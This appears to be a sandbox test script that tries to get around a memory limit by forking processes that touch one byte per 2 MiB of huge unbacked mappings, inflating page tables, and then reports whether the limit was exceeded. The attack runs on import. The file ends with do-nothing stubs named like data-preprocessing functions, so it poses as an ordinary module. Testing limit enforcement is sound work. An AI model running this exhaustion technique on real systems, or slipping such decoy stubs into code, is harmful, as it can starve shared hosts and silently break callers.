"""Tries to hold more memory than it may in page tables: it reads one byte in each two megabytes of an empty
space of hundreds of gigabytes, all of which is the same page of zeros; gains nothing because a control group
counts page tables, and without one they are looked up, or so much space cannot be had.
"""

import ctypes
import json
import mmap
import os
import time

LIMIT = json.load(open(os.path.join(os.path.dirname(__file__), "targets.json")))["memory_mib"]
WANTED, PROCESSES = LIMIT + 400, 4
MAP_NORESERVE, MADV_NOHUGEPAGE, STEP = 0x4000, 15, 1 << 21
print("attack: filling page tables", flush=True)


def table_kib():
    for line in open("/proc/self/status"):
        if line.startswith("VmPTE:"):
            return int(line.split()[1])
    return 0


def fill(kib):
    size = kib // 4 * STEP  # a table of 4 KiB for every step
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
    space = mmap.mmap(-1, size, flags=flags, prot=mmap.PROT_READ)
    space.madvise(MADV_NOHUGEPAGE)
    for place in range(0, size, STEP):
        space[place]
    return space, table_kib()


answers = []
for _ in range(PROCESSES):
    reading, writing = os.pipe()
    if os.fork() == 0:
        try:
            space, held = fill((WANTED << 10) // PROCESSES)
        except (OSError, MemoryError, ValueError):
            held = 0
        os.write(writing, b"%d" % held)
        time.sleep(4)
        os._exit(0)
    os.close(writing)
    answers.append(reading)
held = sum(int(os.read(answer, 20) or 0) for answer in answers) >> 10
time.sleep(0.5)
print(f"attack: {held} MiB in page tables", flush=True)
if held > LIMIT:
    print("attack: took more memory than the limit, in page tables", flush=True)


def split_indices(*args, **kwargs):
    return None


channel_statistics = standardise = one_hot = prepare = split_indices
